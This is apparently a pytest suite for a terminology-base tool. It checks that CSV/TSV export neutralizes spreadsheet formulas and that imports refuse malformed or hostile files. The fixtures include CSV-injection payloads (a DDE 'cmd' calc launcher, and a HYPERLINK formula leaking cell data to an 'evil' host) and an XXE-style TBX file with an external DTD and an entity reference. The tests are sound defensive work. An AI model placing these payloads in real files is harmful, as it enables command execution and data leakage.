"""Hostile cells and files beyond XML: spreadsheet formulas, terms without letters, undeclared
entities, UTF-16, short rows, and the exit codes the README promises."""

from __future__ import annotations

import io

import pytest

from termalign.cli import main
from termalign.errors import FormatError
from termalign.export import import_termbase, read_termbase, write_termbase
from termalign.export.tabular import neutralize, restore
from termalign.store import open_store, transaction
from termalign.store.concepts import Concept, Term, insert_concept

from .conftest import dump_store

# Payloads of OWASP's CSV-injection page and the report, each with letters in it.
FORMULAS = [
    "=cmd|' /C calc'!A0",
    '+HYPERLINK("http://evil/?x="&A1,"click")',
    "@SUM(1+1)*cmd",
    "-x+3",
    "=1+1 term",
]


def formula_concepts() -> list[Concept]:
    out = []
    for i, text in enumerate(FORMULAS, start=1):
        # "|" separates variants inside a cell: it is escaped, so the payload stays one term.
        out.append(Concept(id=i, status="approved", terms=[Term("en", text, "preferred"), Term("km", "ឌីជីថល", "preferred")]))
    return out


def written(fmt: str, concepts: list[Concept]) -> bytes:
    out = io.BytesIO()
    write_termbase(concepts, out, fmt)
    return out.getvalue()


@pytest.mark.parametrize("cell", ["=1", "+1", "-1", "@x", "\tx", "\rx", "'=x", "''", "'+", "plain", "'quoted", ""])
def test_neutralize_is_undone_exactly(cell):
    assert restore(neutralize(cell)) == cell
    if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralize(cell) == "'" + cell


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_spreadsheet_export_writes_no_formula(fmt, tmp_path):
    data = written(fmt, formula_concepts()).decode("utf-8-sig")
    delimiter = "," if fmt == "csv" else "\t"
    for line in data.splitlines()[1:]:
        for cell in line.split(delimiter):
            assert cell.lstrip('"')[:1] not in ("=", "+", "-", "@"), line


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_neutralized_cells_import_back_exactly(fmt, tmp_path, empty_store):
    path = tmp_path / f"formulas.{fmt}"
    path.write_bytes(written(fmt, formula_concepts()))
    texts = [t.text for c in read_termbase(path) for t in c.terms if t.lang == "en"]
    assert texts == FORMULAS
    import_termbase(empty_store, path, reviewer="ana")
    again = tmp_path / f"again.{fmt}"
    from termalign.export import export_termbase

    export_termbase(empty_store, again, fmt)
    assert again.read_bytes() == path.read_bytes()


def test_tbx_carries_formula_text_unescaped():
    data = written("tbx", formula_concepts()).decode()
    assert "<term>=cmd|' /C calc'!A0</term>" in data


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("digits.csv", "en,km\n-2+3,ក\n", "line 2: en term '-2+3' has no letter"),
        ("symbols.tsv", "en\tkm\nok\tក\n@@\t\n", "line 3: en term '@@' has no letter"),
        ("khmer-digits.csv", "km\n២០២៥\n", "line 2: km term '២០២៥' has no letter"),
        (
            "digits.tbx",
            '<?xml version="1.0"?>\n<tbx xmlns="urn:iso:std:iso:30042:ed-2" type="TBX-Basic" style="dca" xml:lang="en">'
            "<tbxHeader><fileDesc><sourceDesc><p>x</p></sourceDesc></fileDesc></tbxHeader><text><body>\n"
            '<conceptEntry id="c1"><langSec xml:lang="en"><termSec><term>1+1</term></termSec></langSec></conceptEntry>'
            "</body></text></tbx>",
            "line 3: en term '1+1' has no letter",
        ),
        ("short-row.csv", "en,km,note\na,ក,n\nb,ខ\n", "line 3: 2 fields but the header has 3"),
        (
            "external-dtd.tbx",
            '<?xml version="1.0"?>\n<!DOCTYPE martif SYSTEM "http://127.0.0.1:9/x.dtd">\n'
            '<martif type="TBX-Basic" xml:lang="en"><martifHeader/><text><body><termEntry id="c7">\n'
            '<langSet xml:lang="km"><tig><term>ការផ្លាស់ប្តូរឌីជីថល&xxe;</term></tig></langSet></termEntry></body></text></martif>',
            "line 4: refused: entity reference &xxe;",
        ),
    ],
)
def test_refused_with_the_line_named(name, content, expected, tmp_path, seed_store):
    path = tmp_path / name
    path.write_text(content, encoding="utf-8")
    before = dump_store(seed_store)
    with pytest.raises(FormatError) as info:
        import_termbase(seed_store, path, reviewer="ana")
    message = str(info.value)
    assert message.startswith(f"{path}: ") and expected in message and "\n" not in message
    assert dump_store(seed_store) == before


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_utf16_csv_with_bom_is_read(encoding, tmp_path):
    path = tmp_path / "utf16.csv"
    bom = {"utf-16-le": "\ufeff", "utf-16-be": "\ufeff"}.get(encoding, "")
    path.write_bytes((bom + "en,km\ndigital economy,សេដ្ឋកិច្ចឌីជីថល\n").encode(encoding))
    (concept,) = read_termbase(path)
    assert [(t.lang, t.text) for t in concept.terms] == [("km", "សេដ្ឋកិច្ចឌីជីថល"), ("en", "digital economy")]


def test_utf16_tbx_with_bom_is_read(tmp_path):
    path = tmp_path / "utf16.tbx"
    xml = (
        '<?xml version="1.0" encoding="UTF-16"?>\n<martif type="TBX-Basic" xml:lang="en"><martifHeader/><text><body>'
        '<termEntry id="c7"><langSet xml:lang="th"><tig><term>เศรษฐกิจดิจิทัล</term></tig></langSet></termEntry>'
        "</body></text></martif>"
    )
    path.write_bytes(xml.encode("utf-16"))
    (concept,) = read_termbase(path)
    assert concept.terms[0].text == "เศรษฐกิจดิจิทัล"


def test_utf16_without_bom_is_named(tmp_path):
    path = tmp_path / "nobom.csv"
    path.write_bytes("en,km\nabc,ក\n".encode("utf-16-le"))
    with pytest.raises(FormatError, match="UTF-16 without a byte-order mark"):
        read_termbase(path)


# -- exit codes ---------------------------------------------------------------------------

def _db(conn) -> str:
    return conn.execute("PRAGMA database_list").fetchone()["file"]


def test_import_with_conflicts_exits_4_with_the_count(seed_store, tmp_path, capsys):
    path = tmp_path / "conflict.csv"
    # An approved entry whose preferred English term contradicts approved concepts of the store.
    path.write_text(
        "status,km,en\napproved,សេដ្ឋកិច្ចឌីជីថល,online economy\napproved,ពលរដ្ឋឌីជីថល,e-citizen\n", encoding="utf-8"
    )
    code = main(["import", str(path), "--db", _db(seed_store), "--status", "approved"])
    err = capsys.readouterr().err
    assert code == 4
    assert "2 conflicting entries" in err
    code = main(["import", str(path), "--db", _db(seed_store), "--json"])
    assert code == 4


def test_stats_on_an_empty_file_is_a_store_error(tmp_path, capsys):
    path = tmp_path / "notes.db"
    path.write_bytes(b"")
    assert main(["stats", "--db", str(path)]) == 3
    assert "not a termalign store" in capsys.readouterr().err
    assert path.read_bytes() == b""


def test_build_with_no_readable_input_stops_before_extract(tmp_path, capsys):
    bad = tmp_path / "in"
    bad.mkdir()
    (bad / "a.txt").write_bytes(b"\xff\xfe\x00\x00binary\x00")
    (bad / "b.txt").write_bytes(b"caf\xe9 latin-1\n")
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    (out_dir / "termbase.tbx").write_text("previous export", encoding="utf-8")
    db = tmp_path / "b.db"
    conn = open_store(db)
    with transaction(conn):
        insert_concept(conn, Concept(status="unreviewed", terms=[Term("en", "kept", "preferred")]))
    conn.close()
    assert main(["build", str(bad), "--db", str(db), "-o", str(out_dir)]) == 2
    err = capsys.readouterr().err
    assert "no input could be read" in err
    assert (out_dir / "termbase.tbx").read_text(encoding="utf-8") == "previous export"
    assert not (out_dir / "termbase.tsv").exists()
    conn = open_store(db)
    assert conn.execute("SELECT count(*) FROM candidates").fetchone()[0] == 0
    assert conn.execute("SELECT count(*) FROM concepts").fetchone()[0] == 1
    conn.close()
